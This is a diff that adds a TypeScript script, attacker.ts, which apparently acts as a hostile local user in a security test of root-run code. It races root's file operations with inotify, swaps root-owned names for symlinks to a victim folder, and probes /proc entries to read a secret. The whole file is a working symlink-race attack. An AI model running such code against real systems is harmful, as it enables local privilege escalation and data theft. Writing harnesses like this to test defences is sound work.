@@ -1,0 +1,84 @@
+/**
+ * Another user beside root: swaps every name that it may rename for a link to root's own files, and back, woken by inotify, and tries to read whatever it sees.
+ * `attacker.ts '{"places": [...], "victim": FOLDER, "secret": TEXT}'`, until its input ends. Then it says what it did, and where it found the secret.
+ */
+import { closeSync, constants, lstatSync, openSync, readdirSync, readSync, renameSync, symlinkSync, unlinkSync, watch } from 'node:fs'
+import { join } from 'node:path'
+
+const { places, victim, secret } = JSON.parse(process.argv[2] ?? '{}') as { readonly places: readonly string[]; readonly victim: string; readonly secret: string }
+const asideName = '.aside-'
+const found = new Set<string>()
+/** Names that lead to the victim just now, and what they led to. */
+const swapped = new Map<string, { readonly aside: string; readonly untilRound: number }>()
+let swaps = 0
+let round = 0
+
+function attempt<Value>(deed: () => Value): Value | null {
+  try {
+    return deed()
+  } catch {
+    return null
+  }
+}
+
+function lookForSecret(path: string): void {
+  const file = attempt(() => openSync(path, constants.O_RDONLY | constants.O_NONBLOCK | constants.O_NOFOLLOW))
+  if (file === null) return
+  const bytes = Buffer.alloc(65_536)
+  const length = attempt(() => readSync(file, bytes, 0, bytes.length, 0)) ?? 0
+  closeSync(file)
+  if (bytes.subarray(0, length).includes(secret)) found.add(path)
+}
+
+function lookInto(folder: string): void {
+  for (const name of attempt(() => readdirSync(folder)) ?? []) lookForSecret(join(folder, name))
+}
+
+function swap(path: string): void {
+  const stats = attempt(() => lstatSync(path))
+  if (stats?.uid !== 0 || stats.isSymbolicLink()) return
+  lookForSecret(path)
+  lookInto(path)
+  const aside = join(path, `../${asideName}${swaps}`)
+  if (attempt(() => renameSync(path, aside) ?? true) === null) return
+  const target = stats.isDirectory() ? victim : join(victim, 'app.db')
+  attempt(() => symlinkSync(target, path))
+  swapped.set(path, { aside, untilRound: round + 1 + (swaps++ % 20) })
+}
+
+function swapBack(path: string, aside: string): void {
+  if (attempt(() => lstatSync(path))?.isSymbolicLink() === true) attempt(() => unlinkSync(path))
+  attempt(() => renameSync(aside, path))
+  swapped.delete(path)
+}
+
+/** The readers of root run as this very user: their files and folders are tried by way of /proc. */
+function lookIntoProcesses(): void {
+  for (const pid of readdirSync('/proc').filter((name) => Number(name) > 0 && Number(name) !== process.pid)) {
+    lookInto(`/proc/${pid}/root`)
+    lookInto(`/proc/${pid}/cwd`)
+    for (const number of attempt(() => readdirSync(`/proc/${pid}/fd`)) ?? []) lookForSecret(`/proc/${pid}/fd/${number}/`.slice(0, -1))
+  }
+}
+
+function swapAll(): void {
+  for (const place of places) for (const name of attempt(() => readdirSync(place)) ?? []) if (!name.startsWith(asideName)) swap(join(place, name))
+}
+
+let ended = false
+process.stdin.on('end', () => { ended = true }).resume()
+const woken = { wake: (): void => undefined }
+for (const place of places) watch(place, () => woken.wake())
+process.stdout.write(`${JSON.stringify({ ready: true })}\n`)
+while (!ended) {
+  round++
+  swapAll()
+  for (const [path, { aside, untilRound }] of swapped) if (round >= untilRound) swapBack(path, aside)
+  if (round % 100 === 0) lookIntoProcesses()
+  await new Promise<void>((resolve) => {
+    woken.wake = () => void setImmediate(resolve) // Our own swaps wake us too, and the end of our input must be heard.
+    setTimeout(resolve, 2)
+  })
+}
+for (const [path, { aside }] of swapped) swapBack(path, aside)
+process.stdout.write(`${JSON.stringify({ swaps, found: [...found] })}\n`, () => process.exit())
